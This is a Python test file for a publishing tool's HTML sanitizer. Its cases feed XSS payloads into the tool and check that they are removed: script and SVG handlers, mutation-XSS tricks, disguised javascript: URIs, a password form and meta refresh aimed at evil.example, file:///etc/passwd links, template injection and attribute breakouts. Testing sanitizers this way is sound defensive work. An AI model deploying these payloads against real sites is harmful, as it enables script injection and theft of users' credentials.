"""Markup that means harm: what acts in it is found and taken away, and no word is lost."""

from hostile.answers import TEXT, found, page, text
from hostile.bounded import Bounded
from hostile.cases import Case, Cases
from hostile.world import World

CASES = Cases()

CASES.add(page("<p>We ask you.</p>", "alert"), name="a script")(
    text(TEXT + "\nWe <script>alert(1)</script> ask <SCRIPT SRC=//x></SCRIPT>you.\n")
)
CASES.add(
    found(":7: warning: <script> is taken away before publication [unsafe-html]"),
    name="a script, found",
    proof=True,
)(text(TEXT + "\n<script>alert(1)</script>\n"))
CASES.add(page("<p>go</p>", "<svg", "onload"), name="SVG")(
    text(TEXT + "\n<svg onload=alert(1)><a xlink:href=javascript:x>go</a></svg>\n")
)
CASES.add(
    found(
        ":7: warning: <svg> is taken away before publication [unsafe-html]",
        ":7: warning: the attribute onload is taken away before publication [unsafe-html]",
    ),
    name="SVG, found",
    proof=True,
)(text(TEXT + "\n<svg onload=alert(1)></svg>\n"))
CASES.add(page('<p><img src="x" alt=""></p>', "onerror", "mglyph"), name="MathML", proof=True)(
    text(TEXT + "\n<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></table></math>\n")
)
CASES.add(
    page('<div class="html"><div>All.</div></div>', "onclick", "ONMOUSEOVER"), name="handlers on a block"
)(text(TEXT + '\n<div onclick="x()" ONMOUSEOVER=y>All.</div>\n'))
CASES.add(
    found(
        ":7: warning: the attribute onclick is taken away before publication [unsafe-html]",
        ":7: warning: the attribute onfocus is taken away before publication [unsafe-html]",
        ":7: warning: the attribute onerror is taken away before publication [unsafe-html]",
    ),
    name="handlers within a line",
)(text(TEXT + "\nA <b onclick=x>b</b> <a href=/x ONFOCUS=y>c</a> <img src=a.png onerror=z alt=d>\n"))
CASES.add(
    page('<p>A <strong>b</strong> <a href="/x">c</a> <img src="a.png" alt="d"></p>', "onclick", "onerror"),
    name="handlers within a line, shown",
    proof=True,
)(text(TEXT + "\nA <b onclick=x>b</b> <a href=/x onfocus=y>c</a> <img src=a.png onerror=z alt=d>\n"))
CASES.add(
    found(
        ":7: warning: <style> is taken away before publication [unsafe-html]",
        ":9: warning: the attribute style is taken away before publication [unsafe-html]",
    ),
    name="styles",
)(text(TEXT + "\n<style>*{display:none}</style>\n\n<p style=display:none>x</p>\n"))
CASES.add(
    found(":7: warning: the attribute style is taken away before publication [unsafe-html]"),
    name="a style on a word",
    proof=True,
)(text(TEXT + '\nWe <em style="display:none">never</em> sell.\n'))
CASES.add(page('<p><a href="b.html">a</a></p>', "evil.example"), name="another base")(
    text(TEXT + "\n<base href=//evil.example>\n\n[a](b.html)\n")
)
CASES.add(page("", "evil.example"), name="a page that leads on by itself", proof=True)(
    text(TEXT + "\n<meta http-equiv=refresh content='0;url=//evil.example'>\n")
)
CASES.add(page('<div class="html">Go</div>', "evil.example", "<input"), name="a form", proof=True)(
    text(TEXT + "\n<form action=//evil.example><input name=password><button>Go</button></form>\n")
)
CASES.add(found(":7: warning: <iframe> is taken away before publication [unsafe-html]"), name="a frame")(
    text(TEXT + "\n<iframe src=//evil.example srcdoc='<script>x</script>'></iframe>\n")
)
CASES.add(
    found(
        ":7: warning: <object> is taken away before publication [unsafe-html]",
        ":7: warning: <embed> is taken away before publication [unsafe-html]",
    ),
    name="an object",
    proof=True,
)(text(TEXT + "\n<object data=x.swf><embed src=x.swf></object>\n"))
CASES.add(page("", "evil.example"), name="a style sheet of another host", proof=True)(
    text(TEXT + "\n<link rel=stylesheet href=//evil.example/x.css>\n")
)
CASES.add(page("", "onerror"), name="an element that parses twice")(
    text(TEXT + "\n<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>\n")
)
CASES.add(page("", "x()", "onerror"), name="comments that end early", proof=True)(
    text(TEXT + "\n<!--><script>x()</script>--> <!-- --!><img src=x onerror=y> -->\n")
)
CASES.add(page('<div class="html">x()]]&gt;</div>', "<![CDATA", "<script"), name="a section of other data")(
    text(TEXT + "\n<![CDATA[<script>x()</script>]]>\n")
)
CASES.add(
    page('<div class="html"><div></div></div>\n<p>Not lost.</p>'),
    name="an element that never ends",
    proof=True,
)(text(TEXT + "\n<div><a href=x\n\nNot lost.\n"))
CASES.add(
    found(
        ":7: warning: an address that begins with javascript: is taken away before publication [unsafe-html]"
    ),
    name="an address that runs",
)(text(TEXT + "\n[a](javascript:alert(1))\n"))
CASES.add(page("<p>a b c</p>", "alert"), name="addresses that run, in disguise")(
    text(TEXT + "\n[a](JaVaScRiPt:alert(1)) [b](java&#9;script:alert(1)) [c](&#106;avascript:alert(1))\n")
)
CASES.add(page("<p>a and b</p>", "alert"), name="an address that runs, by reference")(
    text(TEXT + "\n[a] and ![b][a]\n\n[a]: javascript:alert(1)\n")
)
CASES.add(page("<p>a b</p>", "alert"), name="addresses that run, in HTML", proof=True)(
    text(TEXT + '\n<a href="java\nscript:alert(1)">a</a> <a href=" &#x6A;avascript:alert(1)">b</a>\n')
)
CASES.add(
    page('<div class="html"><p><a>a</a> <a>b</a></p></div>', "alert"),
    name="addresses that run, in a block of HTML",
)(text(TEXT + '\n<p><a href="javascript&colon;alert(1)">a</a> <img src="javascript:alert(1)" alt="b"></p>\n'))
CASES.add(page("<p>a b</p>", "data:"), name="addresses that hold pages")(
    text(TEXT + "\n[a](data:text/html;base64,PHNjcmlwdD4=) ![b](data:image/svg+xml,x)\n")
)
CASES.add(
    found(
        ":7: warning: an address that begins with vbscript: is taken away before publication [unsafe-html]"
    ),
    name="addresses of Visual Basic",
    proof=True,
)(text(TEXT + "\n[a](vbscript:msgbox)\n"))
CASES.add(page("<p>a c</p>", "passwd"), name="addresses on the reader's machine", proof=True)(
    text(TEXT + "\n[a](file:///etc/passwd) [c](blob:x)\n")
)
CASES.add(page('<p><a href="//evil.example/x.png">b</a></p>', "<img"), name="pictures of other hosts")(
    text(TEXT + "\n![b](//evil.example/x.png) ![](https://evil.example/pixel.gif)\n")
)
CASES.add(page("<p>As ${7*7} says.</p>", "root:x"), name="templates")(
    text(TEXT + "\nAs {{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7} says.\n")
)
CASES.add(page('<h2 id="cookies">Cookies</h2>\n<p>All.</p>', "onclick"), name="attributes of kramdown")(
    text(TEXT + '\n## Cookies {: onclick="x()" style="y" #pd-content }\n\nAll.\n{: onclick="x()" }\n')
)
CASES.add(
    page(
        '<h2 id="same-2">Same</h2>\n<h2 id="same-3">Same</h2>\n<h2 id="same">Same</h2>\n<h2 id="same-2-2">Same-2</h2>'
    ),
    name="headings of one name",
)(text(TEXT + "\n## Same\n\n## Same\n\n## Same {#same}\n\n## Same-2\n"))
CASES.add(
    page(
        '<h2 id="section-pd-content">Pd-content</h2>\n<h2 id="section-c1">c1</h2>\n<h2 '
        'id="section-fn-1">fn-1</h2>\n<div class="html"><p>x</p></div>'
    ),
    name="ids that the page needs for itself",
)(text(TEXT + "\n## Pd-content\n\n## c1\n\n## fn-1 {#fn-1}\n\n<p id=pd-content>x</p>\n"))
CASES.add(page('<h2 id="a">X</h2>\n<h2 id="section">&#34;&gt;</h2>', "x()"), name="an id that breaks out")(
    text(TEXT + '\n## X {#a"onclick="x}\n\n## "><script>x()\n')
)
CASES.add(
    page('<h2 id="cookies"><img src="x" alt=""><strong>Cookies</strong></h2>', "onerror"),
    name="HTML in a heading",
    proof=True,
)(text(TEXT + "\n## <img src=x onerror=y> <b>Cookies</b>\n"))
CASES.add(
    page(
        '<p>A.<sup class="footnote-ref"><a href="#fn-1" id="fnref-1" '
        'role="doc-noteref">1</a></sup></p>\n<section class="footnotes" role="doc-endnotes" '
        'aria-label="Footnotes">\n<ol>\n<li id="fn-1"><p>Note.</p>\n<a class="footnote-back" '
        'href="#fnref-1" role="doc-backlink" aria-label="Back to the text">↩</a></li>\n</ol>\n</section>',
        "<script",
    ),
    name="a label of a footnote that breaks out",
    proof=True,
)(text(TEXT + '\nA.[^"><script>]\n\n[^"><script>]: Note.\n'))
CASES.add(
    page('<pre tabindex="0"><code>code</code></pre>', "<script"),
    name="a language of code that breaks out",
    proof=True,
)(text(TEXT + '\n```"><script>x\ncode\n```\n'))
CASES.add(
    page('<p><a href="x.html" title="&#34; onmouseover=&#34;x">a</a></p>'),
    name="a title of a link that breaks out",
    proof=True,
)(text(TEXT + '\n[a](x.html "\\" onmouseover=\\"x")\n'))
CASES.add(
    page(
        '<div class="table" role="region" tabindex="0" aria-label="Table 1: '
        'a">\n<table>\n<thead>\n<tr><th '
        'scope="col">a</th></tr>\n</thead>\n<tbody>\n<tr><td><strong>c</strong></td></tr>\n</tbody>\n</table>\n</div>',
        "x()",
        "onclick",
    ),
    name="HTML in a table",
)(text(TEXT + "\n| a |\n|---|\n| <script>x()</script><b onclick=x>c</b> |\n"))


@CASES.each
def test_markup_is_hostile(case: Case, world: World, bounded: Bounded) -> None:
    """It is answered to the word, within its bounds, and nothing of it acts."""
    case.check(world, bounded)
